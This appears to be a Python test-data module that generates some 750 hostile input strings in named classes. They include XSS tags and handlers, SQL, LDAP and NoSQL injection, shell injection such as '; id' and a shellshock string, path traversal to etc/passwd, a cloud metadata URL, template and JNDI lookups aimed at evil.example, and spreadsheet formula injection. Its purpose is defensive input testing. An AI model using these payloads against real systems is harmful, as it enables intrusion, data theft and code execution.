"""Texts that somebody might be called, or give as a ticket or a reason, by what they attack: some 750, all made here.

None holds half a character (see `HALVES`), and none is longer than `LONGEST`: each can stand wherever a name can.
"""

import unicodedata
from itertools import product
from typing import Final

LONGEST: Final = 1024
# fmt: off
HALVES: Final = tuple(f"{left}{half}{right}" for half in ("\ud800", "\udbff", "\udc00", "\udfff", "\ude00\ud83d")
                      for left, right in (("", ""), ("a", ""), ("", "b"), ("\u202e", "\n")))
"""With lone surrogates, which no UTF-8 holds: for what takes a text as Python has it."""


def _controls():
    yield from (f"a{chr(number)}b" for number in (*range(0x20), *range(0x7F, 0xA0)))
    yield from (f"x{end}{line}" for end, line in product(("\n", "\r", "\r\n", "\x85", "\u2028", "\u2029", "\x0b",
        "\x1e"), _FORGED))


_FORGED = ('{"leaf":"00","record":{}}', "Set-Cookie: a=b", "Bcc: eve@evil.example", "12:00 allow", ".", "")


def _terminals():
    for start in ("\x1b", "\x9b", "\x1b[", "\x1b]0;", "\x1bP", "\x1b_", "\x90", "\x9d"):
        yield from (f"{start}{rest}" for rest in ("31mred", "2J", "title\x07", "52;c;ZWNobyBoaQ==\x07", "?1049h",
            "\x1b\\"))


def _directions():
    marks = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    yield from (f"{mark}{word}" for mark, word in product(marks, ("gnp.exe", "0 = !", "<b>")))
    yield from ("مرحبا 1 allow", "שלום (deny)", "\u202eabc\u202c\u2066d\u2069" * 20)


def _invisible():
    unseen = (
        "\u00a0\u00ad\u034f\u115f\u1160\u17b4\u180e\u2000\u200a\u200b\u200c\u200d\u202f\u205f\u2060\u2061"
        "\u2063\u2064\u206a\u206f\u2800\u3000\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffb\U000e0001\U000e0041\U000e007f"
        "\U000e0100"
    )
    yield from (f"da{mark}na" for mark in unseen)
    yield from (mark for mark in unseen)


def _combining():
    yield from ("e" + mark * 30 for mark in "\u0300\u0315\u031b\u0336\u0338\u0345\u0489\u20dd\u20e3\ufe20")
    yield from ("".join(chr(0x300 + number) for number in range(0x6F)), "Z\u0351\u036b\u0343\u036a\u0302algo",
        "각" * 50, "नि" * 50)


def _look_alikes():
    yield from ("аcme", "acmе", "ɑcme", "ａｃｍｅ", "acme․", "𝐚𝐜𝐦𝐞", "ⓐⓒⓜⓔ", "aϲme", "xn--cme-5cd", "AⅭME", "dɑna",
        "ᴅana", "İı", "ß", "ſ", "K", "Å", "ﬁ", "ﷺ" * 20, "1⁄2", "‘’“”", "＜script＞", "﹤script﹥", "ʼ; --", "∕../∕",
        "。。/", "﹨", "＝1+1", "＠a")
    yield from (unicodedata.normalize(form, "Å ñ ﬁ ²") for form in ("NFC", "NFD", "NFKC", "NFKD"))


def _pictures():
    yield from ("🦊", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇳🇺", "👍🏿", "🙂‍↔️", "1️⃣", "🫥" * 100, "\U0010ffff", "\U0001fffe", "\ufdd0",
        "\uffff", "\ue000", "\U000f0000", "𠜎𠜱", "ด้้้้้็็็็็้้้้้")


def _markup():
    does = "alert(1)"
    tags = (f"<script>{does}</script>", f"<img src=x onerror={does}>", f"<svg/onload={does}>",
        f"<body onload={does}>", f"<a href='javascript:{does}'>x</a>", "<iframe src=//evil.example>",
        "<base href=//evil.example>", '<meta http-equiv=refresh content="0">', "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><button>",
        "<input autofocus onfocus=alert(1)>", "<b>bold</b>", "<!-- ", "<![CDATA[", "<plaintext>", "<template>",
        "<math><mi//xlink:href='data:x'>", "<details open ontoggle=alert(1)>")
    yield from (f"{before}{tag}" for tag, before in product(tags, ("", '">', "'>", "</title></textarea></bdi>",
        "-->")))
    yield from ('" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
        " onmouseover=alert(1) ", '" style="position:fixed', '" hx-get="//evil.example',
        '" data-live="//evil.example')
    yield from ("&lt;script&gt;", "&#60;script&#62;", "&amp;lt;", "&", "&;", "&#0;", "&#x202e;", "&quot;><b>",
        "&NewLine;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-")


def _scripts():
    yield from ("';alert(1)//", '";alert(1)//', "`;alert(1)//", "</script><script>alert(1)//", "${alert(1)}",
        "\\';alert(1)//", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
        "\x01javascript:alert(1)", "vbscript:x", "data:text/html,<b>x", "__proto__", "constructor", "toString",
        "[object Object]", "undefined", "NaN")
    yield from ("}*{display:none}", "expression(alert(1))", "url(//evil.example)", "\\65xpression",
        "@import '//evil.example'", "/* ", "*/x{}")


def _addresses():
    yield from ("//evil.example", "/\\evil.example", "https://evil.example/", "https:evil.example",
        "http://acme@evil.example", "?a=b&form_token=x", "#main", "%0d%0aSet-Cookie:a=b", "%00", "%2e%2e%2f",
        "%FF%FE", "%", "%zz", "..;/", "a?b", "a#b", "a&b=c", "a;b", "file:///etc/passwd", "mailto:a@b?bcc=c@d",
        "http://169.254.169.254/", "http://[::1]/")


def _templates():
    yield from (f"{left}7*7{right}" for left, right in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=",
        "%>"), ("[[", "]]"), ("@(", ")"), ("{", "}"), ("*{", "}"), ("~{", "}")))
    yield from ("{{config}}", "{% raw %}", "{#", "{{''.__class__.__mro__}}", "{{request|attr('x')}}",
        "{% include 'base.html' %}", "${jndi:ldap://evil.example/a}")


def _formats():
    yield from ("%s%s%s%n", "%d", "%(name)s", "%x" * 20, "%1$s", "{}", "{0}", "{0.__class__}", "{name!r}",
        "{:>99999}", "$name", "${name}", "%%", "%c", "{{", "}}", "\\1", "\\g<0>", "$&", "\\N{BULLET}")


def _cells():
    for start, rest in product("=+-@\t\r|%＝＋－＠", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.example")',
        "SUM(1)")):
        yield f"{start}{rest}"
    yield from ('a","=1', "a;=1", "a\t=1", '"=1"', " =1", "\u00a0=1", "\ufeff=1", "'=1", 'a""b', '"', ",,,", ";",
        "a\n=1")


def _commands():
    yield from (f"{sep}id" for sep in (";", "|", "||", "&", "&&", "\n", "`", "$(", ">", "<", "!", "\\\n"))
    yield from ("$(id)", "`id`", "$HOME", "~root", "-rf", "--help", "-", "--", "--as=owner", "*", "?", "{a,b}", "'",
        '"', "\\", "$IFS", "() { :;}; id", "%PATH%", "!!", "-o/tmp/x")


def _queries():
    yield from ("' OR 1=1 --", '" OR ""="', "'; DROP TABLE accounts; --", "') OR ('1'='1", "\\'; --", "1;SELECT 1",
        "%' --", "_%", "a' || 'b", "NULL", "x' AND 1=CAST(1 AS int)--", "admin'/*", "* OR id:*", '"unclosed',
        "NEAR(a b)", "a:b", "-a", "account:globex", "account:globex -decision:allow", 'kind:"x', "(((", "^a*", "AND",
        "decision:", "\x00' --")
    yield from ("*)(uid=*", "$where", "' or count(/*)=1", "{\"$gt\":\"\"}")


def _files():
    yield from ("../" * depth + "etc/passwd" for depth in range(1, 9))
    yield from ("..", ".", "/", "//", "...", "~", "..\\..\\x", "C:\\x", "\\\\evil\\x", "CON", "NUL.txt", "COM1", "a/",
        ".htaccess", "x.jsonl", "x\x00.csv", "a:b", " a", "a ", ".hidden", "/dev/zero", "file.csv\r\nX: y")


def _numbers():
    yield from ("0", "-0", "-1", "1e309", "1e-400", "0x10", "0o7", "1_000", "٣", "²", "½", "9" * 400, "2147483648",
        "9223372036854775808", "Infinity", "true", "false", "null", "None", "nil", "00x", "1.0.0", "1,5", "١٢")


def _documents():
    yield from ('{"a":1}', '"}', "[]", "[" * 500, '{"a":' * 150, "]}", '","admin":true,"x":"', "\\", "\\\\", '\\"',
        "\\u0000", "\\ud800", "---", "- a", "!!python/object:x", "&a [*a]", "<?xml version='1.0'?>",
        '<!DOCTYPE x [<!ENTITY a "b">]>&a;', "a=b|c\\=d suser=root", "CEF:0|x|y", "<13>1 - - -", "a\\nb", "\x1f\x8b",
        "%PDF-", "PK\x03\x04", "GIF89a")
    yield from ("From: x", "\r\n.\r\nMAIL FROM:<e@e.example>", "=?utf-8?q?=0aBcc:?=", "a@b.example, c@d.example",
        "<a@b.example>", "eyJhbGciOiJub25lIn0.e30.", "…[escaped]", "…[cut, 9 characters, SHA-256 00]", "[erased]")


def _long():
    yield from (sign * LONGEST for sign in ("x", " ", "\t", "é", "<", "&", '"', "\\", "\u202e", "\n", "🦊", "=", ".",
        "/", "%"))
    yield from ("a " * (LONGEST // 2), "\u0301" * (LONGEST - 1) + "x", "W" * 63 + "." + "W" * 190, "")


CLASSES: Final = {
    name: tuple(dict.fromkeys(make()))
    for name, make in {
        "controls and ends of lines": _controls, "terminals": _terminals, "directions": _directions,
        "not seen": _invisible, "combining": _combining, "look alike": _look_alikes, "pictures": _pictures,
        "markup": _markup, "scripts and styles": _scripts, "addresses": _addresses, "templates": _templates,
        "format strings": _formats, "cells": _cells, "commands": _commands, "queries": _queries, "files": _files,
        "numbers and words": _numbers, "documents and mails": _documents, "length": _long,
    }.items()
}
TEXTS: Final = tuple(dict.fromkeys(text for texts in CLASSES.values() for text in texts))
"""Every one once."""
